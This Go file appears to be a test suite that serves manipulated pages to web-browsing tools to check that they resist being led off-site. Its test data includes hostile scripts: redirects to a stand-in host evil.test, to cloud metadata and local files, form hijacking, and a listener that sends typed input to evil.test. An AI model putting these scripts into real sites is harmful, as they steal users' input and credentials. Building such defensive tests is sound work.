package sites

import (
	"net/http"
	"strings"
)

// The ways in which a run ends that is led elsewhere.
var astray = []string{"off-host", "no-load", "missing"}

// leadVariants lead a page to where it has no business.
func leadVariants() []Change {
	at := func(status int, to string) func(string, http.Handler) http.Handler {
		return always(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", fillIn(to, r))
			w.WriteHeader(status)
		})
	}
	posted := func(status int) func(string, http.Handler) http.Handler {
		return wrapped(func(w http.ResponseWriter, r *http.Request, plain http.Handler) {
			if r.Method != http.MethodPost {
				plain.ServeHTTP(w, r)
				return
			}
			w.Header().Set("Location", "https://evil.test/taken")
			w.WriteHeader(status)
		})
	}
	lost := stops(astray...).never(evil)
	sent := stops("off-host", "no-load", "missing", "need-human").never(evil)
	// Jina's page has no form: what leads elsewhere is a script's request, which
	// the browser gives up by itself.
	asked := map[string]Want{"jina": stops("off-host", "no-load", "missing", "no-key").never(evil)}
	list := []Change{
		{Name: "lead-301", What: "the first answer leads to another host for good", Want: lost, pages: at(301, "https://evil.test/")},
		{Name: "lead-302", What: "the first answer leads to another host", Want: lost, pages: at(302, "https://evil.test/")},
		{Name: "lead-303", What: "the first answer leads to another host by 303", Want: lost, pages: at(303, "https://evil.test/")},
		{Name: "lead-307", What: "the first answer leads to another host by 307", Want: lost, pages: at(307, "https://evil.test/")},
		{Name: "lead-308", What: "the first answer leads to another host by 308", Want: lost, pages: at(308, "//evil.test/")},
		{Name: "lead-below", What: "the first answer leads to a host that begins like the site's", Want: stops(astray...).never("*.evil.test"), pages: at(302, "https://HOST.evil.test/")},
		{Name: "lead-sub", What: "the first answer leads to a host below the site's", Want: stops(astray...).never("login.HOST"), pages: at(302, "https://login.HOST/")},
		{Name: "lead-similar", What: "the first answer leads to a host with a hyphen more", Want: stops(astray...).never("HOST-login.test"), pages: at(302, "https://HOST-login.test/")},
		{Name: "lead-unicode", What: "the first answer leads to a host that looks the same", Want: stops(astray...).never("xn--*"), pages: at(302, "https://\u043epenrouter.test/")},
		{Name: "lead-user", What: "the first answer leads to a host behind the site's as a user name", Want: lost, pages: at(302, "https://HOST@evil.test/")},
		{Name: "lead-backslash", What: "the first answer leads elsewhere with a backslash", Want: lost, pages: at(302, `https:\\evil.test\HOST`)},
		{Name: "lead-port", What: "the first answer leads to another port of the site", Want: stops(astray...), pages: at(302, "https://HOST:8443/")},
		{Name: "lead-plain", What: "the first answer leads to the site without encryption", Want: stops(astray...), pages: at(302, "http://HOST/")},
		{Name: "lead-address", What: "the first answer leads to an address of the local network", Want: stops(astray...).never("127.0.0.1", "169.254.169.254"), pages: at(302, "https://169.254.169.254/latest/meta-data/")},
		{Name: "lead-loopback", What: "the first answer leads to this machine", Want: stops(astray...).never("127.0.0.1", "localhost"), pages: at(302, "https://localhost:22/")},
		{Name: "lead-file", What: "the first answer leads to a file", Want: stops(astray...), pages: at(302, "file:///etc/passwd")},
		{Name: "lead-data", What: "the first answer leads to a page in its own address", Want: stops(astray...), pages: at(302, "data:text/html,<h1>Sign in</h1>")},
		{Name: "lead-loop", What: "answers lead in a circle", Want: stops("no-load", "missing"), pages: always(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", r.URL.Path+"?again="+random(8, alnum))
			w.WriteHeader(http.StatusFound)
		})},
		{Name: "lead-after-form-303", What: "each form leads to another host", Want: sent, Except: asked, pages: posted(303)},
		{Name: "lead-after-form-307", What: "each form is to be sent again to another host", Want: sent, Except: asked, pages: posted(307)},
		{Name: "lead-after-form-308", What: "each form is to be sent again to another host, for good", Want: sent, Except: asked, pages: posted(308)},
		{Name: "lead-meta", What: "a page refreshes itself to another host", Want: lost, pages: first(`<meta http-equiv="refresh" content="0;url=https://evil.test/">`)},
		{Name: "lead-header", What: "a header has the page refresh itself to another host", Want: lost, pages: editing(func(e *edited) {
			if e.html() {
				e.header.Set("Refresh", "0;url=https://evil.test/")
			}
		})},
		{Name: "lead-script", What: "a script leads to another host at once", Want: lost, pages: script(`location.replace('https://evil.test/');`)},
		{Name: "lead-script-late", What: "a script leads to another host after a second", Want: passes("off-host", "no-load", "missing").never(evil), pages: script(`setTimeout(() => { location.href = 'https://evil.test/'; }, 1000);`)},
		{Name: "lead-typing", What: "the page goes to another host, with what it knows, once something is typed", Want: passes("off-host", "no-load", "missing").never(evil), pages: script(`
			addEventListener('input', e => { location.href = 'https://evil.test/?' + encodeURIComponent(e.target.value); }, true);`), Except: map[string]Want{
			"jina": passes().never(evil), "gemini": passes("off-host", "no-load", "missing", "need-human").never(evil), "brave-search": sent,
		}},
		{Name: "lead-click", What: "each click leads to another host", Want: lost, pages: script(`addEventListener('click', () => { location.href = 'https://evil.test/'; }, true);`),
			Except: map[string]Want{"gemini": sent, "brave-search": sent}},
		{Name: "form-action", What: "forms are sent to another host", Want: passes("off-host", "no-load", "missing", "need-human").never(evil), pages: script(`
			watch('form', f => { f.action = 'https://evil.test/form'; });`)},
		{Name: "form-button", What: "buttons have their forms sent to another host", Want: passes("off-host", "no-load", "missing", "need-human").never(evil), pages: script(`
			watch('form button, form input[type=submit]', b => { b.formAction = 'https://evil.test/button'; });`)},
		{Name: "form-get", What: "forms send what they hold in the address", Want: passes("off-host", "no-load", "missing", "unusable", "need-human"), pages: script(`watch('form', f => { f.method = 'get'; });`)},
		{Name: "form-target", What: "forms are answered in a new window", Want: passes("off-host", "no-load", "missing", "need-human"), pages: script(`watch('form', f => { f.target = '_blank'; });`)},
		{Name: "links-blank", What: "links open new windows", Want: passes("off-host", "no-load", "missing", "need-human"), pages: script(`watch('a', a => { a.target = '_blank'; });`)},
		{Name: "pop-up", What: "a window of another host opens at once", Want: passes("off-host").never(evil), pages: script(`window.open('https://evil.test/pop');`)},
		{Name: "pop-up-click", What: "each click opens a window of another host", Want: passes("off-host").never(evil), pages: script(`
			addEventListener('click', () => window.open('https://evil.test/pop'), true);`)},
		{Name: "pop-under", What: "each click opens the page anew and leads the old one elsewhere", Want: passes("off-host", "no-load", "missing", "need-human").never(evil), pages: script(`
			addEventListener('click', () => { window.open(location.href); location.href = 'https://evil.test/under'; }, true);`)},
		{Name: "base", What: "the page's addresses are those of another host", Want: passes("off-host", "no-load", "missing", "need-human").never(evil), pages: editing(func(e *edited) {
			if e.html() {
				e.body = atTop(e.body, `<base href="https://evil.test/">`)
			}
		})},
		{Name: "frame-elsewhere", What: "a frame in the page is of another host", Want: passes("off-host").never(evil), pages: last(`<iframe data-variant src="https://evil.test/frame" width="300" height="60"></iframe>`)},
		{Name: "frame-out", What: "a frame leads the whole window to another host", Want: passes("off-host", "no-load", "missing").never(evil), pages: last(`<iframe data-variant srcdoc="<script>top.location='https://evil.test/out'</script>"></iframe>`)},
		{Name: "history", What: "the page says that it is at another path", Want: passes("missing", "off-host"), pages: script(`ready(() => setTimeout(() => history.pushState({}, '', location.pathname + '/../elsewhere?x=1'), 50));`)},
		{Name: "back", What: "the page goes back whenever it has come", Want: passes("missing", "no-load", "off-host", "unusable", "need-human", "browser"), pages: script(`ready(() => setTimeout(() => history.back(), 300));`)},
		{Name: "reload", What: "pages load themselves again, three times", Want: passes("missing", "unusable", "no-load", "no-key"), pages: script(`
			const n = +(sessionStorage.getItem('n') || 0); if (n < 3) ready(() => setTimeout(() => { sessionStorage.setItem('n', n + 1); location.reload(); }, 200));`)},
		{Name: "reload-always", What: "pages load themselves again for ever", Want: passes("missing", "unusable", "no-load", "no-key", "need-human"), pages: script(`ready(() => setTimeout(() => location.reload(), 400));`)},
		{Name: "protocols", What: "the page calls programs of the system", Want: passes("off-host"), pages: script(`
			ready(() => { for (const u of ['mailto:a@evil.test', 'tel:+1', 'ms-settings:', 'zoommtg://evil.test']) { const f = document.createElement('iframe'); f.style.display = 'none'; f.src = u; document.body.append(f); } });`)},
		{Name: "local-pages", What: "the page leads to pages of the browser and to files", Want: passes("off-host"), pages: script(`
			ready(() => { for (const u of ['chrome://settings', 'file:///etc/passwd', 'view-source:' + location.href, 'data:text/html,x', 'javascript:void 0', 'blob:null/x']) try { location.href = u; } catch {} });`)},
	}
	// Sign-in at Google is elsewhere by itself.
	for i := range list {
		if list[i].Except == nil && !list[i].Want.Key {
			list[i].Except = map[string]Want{"gemini": {Stops: append([]string{"need-human"}, list[i].Want.Stops...), Never: list[i].Want.Never}}
		}
	}
	return list
}

// fillIn puts the host of a request into an address.
func fillIn(to string, r *http.Request) string { return strings.ReplaceAll(to, "HOST", r.Host) }
